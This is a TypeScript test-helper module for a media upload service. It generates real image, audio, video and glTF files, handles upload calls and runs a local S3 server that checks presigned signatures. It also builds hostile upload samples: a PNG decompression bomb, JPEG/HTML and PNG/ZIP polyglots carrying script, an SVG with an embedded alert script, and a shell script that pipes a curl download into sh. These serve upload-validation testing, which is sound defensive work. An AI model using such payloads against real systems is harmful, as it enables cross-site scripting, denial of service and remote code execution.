/**
 * Helpers of the media tests: real files generated here (images through sharp, WAV, MP3, Ogg,
 * MP4, WebM and GLB written byte by byte, hostile variants of them), upload calls, a footprint
 * of everything an upload can leave behind, and a local S3-compatible server (s3rver) behind a
 * gate that enforces presigned-URL signatures and expiry as S3 does (s3rver itself does not
 * check SigV4 signatures).
 */
import { createHash, createHmac } from 'node:crypto';
import { mkdtempSync, rmSync } from 'node:fs';
import { createServer, type IncomingMessage, type RequestListener, type Server } from 'node:http';
import { createRequire } from 'node:module';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { deflateSync } from 'node:zlib';
import sharp from 'sharp';
import { call, type TestContext } from './harness.js';
import type { Tenant } from './seed.js';
import type { HarnessOptions } from './harness.js';
import { wavHeader } from './wav.js';

export { wavHeader };

// ---------------------------------------------------------------------------------------------
// Files

export async function png(width = 16, height = 16): Promise<Buffer> {
  return sharp({ create: { width, height, channels: 3, background: { r: 200, g: 40, b: 90 } } }).png().toBuffer();
}

export async function jpeg(width = 16, height = 16): Promise<Buffer> {
  return sharp({ create: { width, height, channels: 3, background: { r: 10, g: 140, b: 90 } } }).jpeg().toBuffer();
}

export async function webp(width = 16, height = 16): Promise<Buffer> {
  return sharp({ create: { width, height, channels: 3, background: { r: 10, g: 40, b: 190 } } }).webp().toBuffer();
}

export async function gif(width = 16, height = 16): Promise<Buffer> {
  return sharp({ create: { width, height, channels: 3, background: { r: 250, g: 200, b: 0 } } }).gif().toBuffer();
}

/** A WAV of a 440 Hz tone. */
export function wav(samples = 4000, sampleRate = 8000): Buffer {
  const data = Buffer.alloc(samples * 2);
  for (let i = 0; i < samples; i++) data.writeInt16LE(Math.round(Math.sin((2 * Math.PI * 440 * i) / sampleRate) * 8000), i * 2);
  return Buffer.concat([wavHeader(data.length, sampleRate), data]);
}

/** MPEG-1 layer III frames at 128 kbit/s, 44.1 kHz (417 bytes each), with an ID3v2 tag in front. */
export function mp3(frames = 20): Buffer {
  const id3 = Buffer.from([0x49, 0x44, 0x33, 3, 0, 0, 0, 0, 0, 10, ...Buffer.alloc(10)]);
  const frame = Buffer.alloc(417);
  frame.set([0xff, 0xfb, 0x90, 0xc4]);
  return Buffer.concat([id3, ...Array.from({ length: frames }, () => frame)]);
}

const OGG_CRC_TABLE = Array.from({ length: 256 }, (_, i) => {
  let r = i << 24;
  for (let k = 0; k < 8; k++) r = r & 0x80000000 ? (r << 1) ^ 0x04c11db7 : r << 1;
  return r >>> 0;
});

function oggPage(flags: number, sequence: number, packet: Buffer): Buffer {
  const segments: number[] = [];
  let left = packet.length;
  while (left >= 255) {
    segments.push(255);
    left -= 255;
  }
  segments.push(left);
  const header = Buffer.alloc(27);
  header.write('OggS', 0, 'latin1');
  header[5] = flags;
  header.writeUInt32LE(0x1234, 14);
  header.writeUInt32LE(sequence, 18);
  header[26] = segments.length;
  const page = Buffer.concat([header, Buffer.from(segments), packet]);
  let crc = 0;
  for (const b of page) crc = ((crc << 8) ^ OGG_CRC_TABLE[((crc >>> 24) ^ b) & 0xff]!) >>> 0;
  page.writeUInt32LE(crc, 22);
  return page;
}

/** An Ogg Vorbis stream: identification header page (BOS), a data page, and a last page (EOS). */
export function ogg(): Buffer {
  const ident = Buffer.concat([Buffer.from('\x01vorbis', 'latin1'), Buffer.from([0, 0, 0, 0, 1, 0x44, 0xac, 0, 0, 0, 0, 0, 0, 0xf4, 1, 0, 0, 0, 0, 0, 0xb8, 1])]);
  return Buffer.concat([oggPage(0x02, 0, ident), oggPage(0, 1, Buffer.alloc(600, 7)), oggPage(0x04, 2, Buffer.alloc(100, 9))]);
}

function box(type: string, ...payload: Buffer[]): Buffer {
  const body = Buffer.concat(payload);
  const head = Buffer.alloc(8);
  head.writeUInt32BE(8 + body.length, 0);
  head.write(type, 4, 'latin1');
  return Buffer.concat([head, body]);
}

/** An ISO base media file: ftyp (isom), moov with an mvhd, and an mdat. */
export function mp4(): Buffer {
  const mvhd = Buffer.alloc(100);
  mvhd.writeUInt32BE(1000, 12);
  mvhd.writeUInt32BE(0x00010000, 20);
  return Buffer.concat([
    box('ftyp', Buffer.from('isom', 'latin1'), Buffer.from([0, 0, 2, 0]), Buffer.from('isomiso2mp41', 'latin1')),
    box('moov', box('mvhd', mvhd)),
    box('mdat', Buffer.alloc(256, 1)),
  ]);
}

function ebml(id: number[], ...payload: Buffer[]): Buffer {
  const body = Buffer.concat(payload);
  const size = Buffer.alloc(8);
  size[0] = 0x01;
  size.writeUIntBE(body.length, 2, 6);
  return Buffer.concat([Buffer.from(id), size, body]);
}

const uint = (id: number[], value: number) => ebml(id, Buffer.from([value]));

/** A WebM file: EBML header (DocType webm), a Segment with Info, Tracks and one Cluster. */
export function webm(): Buffer {
  const header = ebml([0x1a, 0x45, 0xdf, 0xa3], uint([0x42, 0x86], 1), uint([0x42, 0xf7], 1), uint([0x42, 0xf2], 4), uint([0x42, 0xf3], 8), ebml([0x42, 0x82], Buffer.from('webm')), uint([0x42, 0x87], 4), uint([0x42, 0x85], 2));
  const info = ebml([0x15, 0x49, 0xa9, 0x66], ebml([0x2a, 0xd7, 0xb1], Buffer.from([0x0f, 0x42, 0x40])));
  const tracks = ebml([0x16, 0x54, 0xae, 0x6b], ebml([0xae], uint([0xd7], 1), ebml([0x86], Buffer.from('V_VP8')), uint([0x83], 1)));
  const cluster = ebml([0x1f, 0x43, 0xb6, 0x75], uint([0xe7], 0), ebml([0xa3], Buffer.alloc(64, 3)));
  return Buffer.concat([header, ebml([0x18, 0x53, 0x80, 0x67], info, tracks, cluster)]);
}

/** A glTF 2.0 binary with a JSON chunk and a BIN chunk. */
export function glb(): Buffer {
  let json = Buffer.from(JSON.stringify({ asset: { version: '2.0', generator: 'media tests' }, scenes: [{ nodes: [] }], scene: 0 }));
  json = Buffer.concat([json, Buffer.alloc((4 - (json.length % 4)) % 4, 0x20)]);
  const bin = Buffer.alloc(16, 0);
  const chunk = (type: number, data: Buffer) => {
    const h = Buffer.alloc(8);
    h.writeUInt32LE(data.length, 0);
    h.writeUInt32LE(type, 4);
    return Buffer.concat([h, data]);
  };
  const body = Buffer.concat([chunk(0x4e4f534a, json), chunk(0x004e4942, bin)]);
  const header = Buffer.alloc(12);
  header.write('glTF', 0, 'latin1');
  header.writeUInt32LE(2, 4);
  header.writeUInt32LE(12 + body.length, 8);
  return Buffer.concat([header, body]);
}

const CRC_TABLE = Array.from({ length: 256 }, (_, n) => {
  let c = n;
  for (let k = 0; k < 8; k++) c = c & 1 ? 0xedb88320 ^ (c >>> 1) : c >>> 1;
  return c >>> 0;
});

function pngChunk(type: string, data: Buffer): Buffer {
  const head = Buffer.alloc(8);
  head.writeUInt32BE(data.length, 0);
  head.write(type, 4, 'latin1');
  let crc = 0xffffffff;
  for (const b of Buffer.concat([head.subarray(4), data])) crc = CRC_TABLE[(crc ^ b) & 0xff]! ^ (crc >>> 8);
  const tail = Buffer.alloc(4);
  tail.writeUInt32BE((crc ^ 0xffffffff) >>> 0, 0);
  return Buffer.concat([head, data, tail]);
}

/**
 * A decompression bomb: a valid 1-bit grayscale PNG of `side`×`side` pixels whose rows are all
 * zero, so it compresses to a few kilobytes but would decode to `side²` pixels.
 */
export function pixelBombPng(side = 20_000): Buffer {
  const cached = bombs.get(side);
  if (cached) return cached;
  const ihdr = Buffer.alloc(13);
  ihdr.writeUInt32BE(side, 0);
  ihdr.writeUInt32BE(side, 4);
  ihdr[8] = 1; // bit depth
  ihdr[9] = 0; // grayscale
  const rowBytes = 1 + Math.ceil(side / 8);
  const idat = deflateSync(Buffer.alloc(rowBytes * side), { level: 9 });
  const bomb = Buffer.concat([Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]), pngChunk('IHDR', ihdr), pngChunk('IDAT', idat), pngChunk('IEND', Buffer.alloc(0))]);
  bombs.set(side, bomb);
  return bomb;
}
const bombs = new Map<number, Buffer>();

/**
 * The PNG (as pngChunk writes them: signature, then length/type/data/CRC chunks) with its IDAT
 * data replaced by bytes that are not a zlib stream, under a valid chunk CRC: the header still
 * reads, the pixels cannot be decoded.
 */
export function withCorruptIdat(png: Buffer): Buffer {
  const chunks: Buffer[] = [png.subarray(0, 8)];
  for (let at = 8; at < png.length; ) {
    const length = png.readUInt32BE(at);
    const type = png.toString('latin1', at + 4, at + 8);
    const data = png.subarray(at + 8, at + 8 + length);
    chunks.push(type === 'IDAT' ? pngChunk('IDAT', Buffer.alloc(Math.max(length, 64), 0xa5)) : pngChunk(type, data));
    at += 12 + length;
  }
  return Buffer.concat(chunks);
}

/** A JPEG whose comment segment carries a script (a JPEG/HTML polyglot). */
export function withJpegComment(jpg: Buffer, comment: string): Buffer {
  const text = Buffer.from(comment, 'latin1');
  const segment = Buffer.alloc(4);
  segment.writeUInt16BE(0xfffe, 0);
  segment.writeUInt16BE(text.length + 2, 2);
  return Buffer.concat([jpg.subarray(0, 2), segment, text, jpg.subarray(2)]);
}

/** A minimal ZIP (one stored file) to append to another file: a PNG/ZIP polyglot. */
export function zipArchive(): Buffer {
  const name = Buffer.from('payload.js');
  const data = Buffer.from('alert(document.domain)');
  const local = Buffer.alloc(30);
  local.writeUInt32LE(0x04034b50, 0);
  local.writeUInt16LE(10, 4);
  local.writeUInt32LE(data.length, 18);
  local.writeUInt32LE(data.length, 22);
  local.writeUInt16LE(name.length, 26);
  const end = Buffer.alloc(22);
  end.writeUInt32LE(0x06054b50, 0);
  return Buffer.concat([local, name, data, end]);
}

export const ELF = Buffer.concat([Buffer.from([0x7f, 0x45, 0x4c, 0x46, 2, 1, 1, 0]), Buffer.alloc(8), Buffer.from([2, 0, 0x3e, 0, 1, 0, 0, 0]), Buffer.alloc(200)]);
export const SVG = Buffer.from('<?xml version="1.0"?>\n<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10"><script>alert(1)</script></svg>\n');
export const SHELL_SCRIPT = Buffer.from('#!/bin/sh\ncurl http://example.invalid | sh\n');

export function sha256(bytes: Buffer): string {
  return createHash('sha256').update(bytes).digest('hex');
}

// ---------------------------------------------------------------------------------------------
// Requests

export interface UploadOptions {
  type?: string;
  filename?: string;
  field?: string;
  /** More parts appended after the file. */
  extra?: (form: FormData) => void;
  /** Use another key than the tenant's. */
  secret?: string;
}

export function uploadForm(bytes: Buffer, o: UploadOptions = {}): FormData {
  const form = new FormData();
  form.append(o.field ?? 'file', new Blob([bytes], { type: o.type ?? 'image/png' }), o.filename ?? 'upload.png');
  o.extra?.(form);
  return form;
}

export async function upload(ctx: TestContext, t: Tenant, bytes: Buffer, o: UploadOptions = {}) {
  return call(ctx, 'POST', '/v1/media/upload', { secret: o.secret ?? t.secret, workspaceId: t.workspace.id, body: uploadForm(bytes, o) });
}

/** A multipart body as one Buffer (so the request carries a Content-Length). */
export function multipartBuffer(bytes: Buffer, type = 'image/png', filename = 'upload.png'): { body: Buffer; contentType: string } {
  const boundary = `----media-test-${Date.now()}`;
  const head = Buffer.from(`--${boundary}\r\nContent-Disposition: form-data; name="file"; filename="${filename}"\r\nContent-Type: ${type}\r\n\r\n`);
  return { body: Buffer.concat([head, bytes, Buffer.from(`\r\n--${boundary}--\r\n`)]), contentType: `multipart/form-data; boundary=${boundary}` };
}

/** Everything an upload can leave behind in a workspace. */
export async function footprint(ctx: TestContext, workspaceId: string) {
  const rows = await ctx.deps.db.selectFrom('media').select((eb) => eb.fn.countAll<number>().as('n')).where('workspace_id', '=', workspaceId).executeTakeFirstOrThrow();
  const events = await ctx.deps.db
    .selectFrom('events')
    .select((eb) => eb.fn.countAll<number>().as('n'))
    .where('workspace_id', '=', workspaceId)
    .where('type', '=', 'media.created')
    .executeTakeFirstOrThrow();
  const used = await ctx.deps.db.selectFrom('media').select((eb) => eb.fn.sum<number>('size_bytes').as('n')).where('workspace_id', '=', workspaceId).executeTakeFirst();
  return {
    rows: Number(rows.n),
    events: Number(events.n),
    usedBytes: Number(used?.n ?? 0),
    blobs: (await ctx.deps.blobs.listKeys(`${workspaceId}/`)).length,
    staged: (await ctx.deps.blobs.stagedFiles()).length,
  };
}

// ---------------------------------------------------------------------------------------------
// Storage backends

/** s3rver ships no type declarations: the part used here. */
interface S3rverInstance {
  configureBuckets(): Promise<void>;
  getMiddleware(): RequestListener;
}
const S3rver = createRequire(import.meta.url)('s3rver') as new (options: Record<string, unknown>) => S3rverInstance;

export const S3_BUCKET = 'media-test';
const S3_KEY = 'S3RVER';
const S3_SECRET = 'S3RVER';

function rfc3986(value: string): string {
  return encodeURIComponent(value).replace(/[!'()*]/g, (c) => `%${c.charCodeAt(0).toString(16).toUpperCase()}`);
}

/** True when a presigned (query-string SigV4) request is correctly signed and not expired. */
export function verifyPresigned(req: IncomingMessage, secret: string, now = Date.now()): { ok: boolean; reason?: string } {
  const url = new URL(req.url ?? '/', 'http://placeholder');
  const q = url.searchParams;
  const credential = q.get('X-Amz-Credential')?.split('/');
  const amzDate = q.get('X-Amz-Date') ?? '';
  const expires = Number(q.get('X-Amz-Expires'));
  const signedHeaders = q.get('X-Amz-SignedHeaders') ?? '';
  if (q.get('X-Amz-Algorithm') !== 'AWS4-HMAC-SHA256' || credential?.length !== 5 || !/^\d{8}T\d{6}Z$/.test(amzDate) || !Number.isInteger(expires)) {
    return { ok: false, reason: 'missing or malformed signature parameters' };
  }
  const [, date, region, service] = credential as [string, string, string, string, string];
  const query = [...q.entries()]
    .filter(([k]) => k !== 'X-Amz-Signature')
    .map(([k, v]) => [rfc3986(k), rfc3986(v)] as const)
    .sort(([a, av], [b, bv]) => (a < b ? -1 : a > b ? 1 : av < bv ? -1 : av > bv ? 1 : 0))
    .map(([k, v]) => `${k}=${v}`)
    .join('&');
  const headers = signedHeaders
    .split(';')
    .map((h) => `${h}:${String(req.headers[h] ?? '').trim()}\n`)
    .join('');
  const canonical = [req.method, url.pathname, query, headers, signedHeaders, 'UNSIGNED-PAYLOAD'].join('\n');
  const scope = `${date}/${region}/${service}/aws4_request`;
  const toSign = ['AWS4-HMAC-SHA256', amzDate, scope, createHash('sha256').update(canonical).digest('hex')].join('\n');
  const hmac = (key: string | Buffer, data: string) => createHmac('sha256', key).update(data).digest();
  const signingKey = hmac(hmac(hmac(hmac(`AWS4${secret}`, date), region), service), 'aws4_request');
  if (hmac(signingKey, toSign).toString('hex') !== q.get('X-Amz-Signature')) return { ok: false, reason: 'signature does not match' };
  const signedAt = Date.UTC(+amzDate.slice(0, 4), +amzDate.slice(4, 6) - 1, +amzDate.slice(6, 8), +amzDate.slice(9, 11), +amzDate.slice(11, 13), +amzDate.slice(13, 15));
  if (now > signedAt + expires * 1000) return { ok: false, reason: 'expired' };
  return { ok: true };
}

export interface TestS3 {
  endpoint: string;
  close(): Promise<void>;
}

/**
 * s3rver on a loopback port. Anonymous GET/HEAD requests must carry a valid, unexpired presigned
 * signature (403 otherwise), like a private S3 bucket; the service's own signed API calls pass.
 */
export async function startTestS3(): Promise<TestS3> {
  const directory = mkdtempSync(join(tmpdir(), 'was-s3-'));
  const s3 = new S3rver({ directory, silent: true, configureBuckets: [{ name: S3_BUCKET, configs: [] }] });
  await s3.configureBuckets();
  const handler = s3.getMiddleware();
  const server: Server = createServer((req, res) => {
    if (!req.headers.authorization) {
      const verdict = verifyPresigned(req, S3_SECRET);
      if (!verdict.ok) {
        res.writeHead(403, { 'content-type': 'application/xml' });
        res.end(`<?xml version="1.0" encoding="UTF-8"?><Error><Code>AccessDenied</Code><Message>${verdict.reason}</Message></Error>`);
        return;
      }
    }
    handler(req, res);
  });
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  const address = server.address();
  const port = typeof address === 'object' && address ? address.port : 0;
  process.env.AWS_ACCESS_KEY_ID = S3_KEY;
  process.env.AWS_SECRET_ACCESS_KEY = S3_SECRET;
  process.env.AWS_REGION = 'us-east-1';
  return {
    endpoint: `http://127.0.0.1:${port}`,
    async close() {
      server.closeAllConnections();
      await new Promise<void>((resolve) => server.close(() => resolve()));
      rmSync(directory, { recursive: true, force: true });
    },
  };
}

export type BackendName = 'local' | 's3';

/** Harness options of a backend (for S3, filled in once the server runs). */
export function backendOptions(name: BackendName, s3: TestS3 | undefined, extra: HarnessOptions = {}): HarnessOptions {
  if (name === 'local') return extra;
  // The S3 gate checks expiry against the real clock, so these suites run the fake clock from now.
  return { now: Date.now(), ...extra, env: { MEDIA_STORE: `s3://${S3_BUCKET}/tenants`, S3_ENDPOINT: s3!.endpoint, ...extra.env } };
}

/** How many media the tenant's workspace holds. */
export async function mediaCount(ctx: TestContext, t: Pick<Tenant, 'workspace'>): Promise<number> {
  return (await ctx.deps.db.selectFrom('media').select('id').where('workspace_id', '=', t.workspace.id).execute()).length;
}
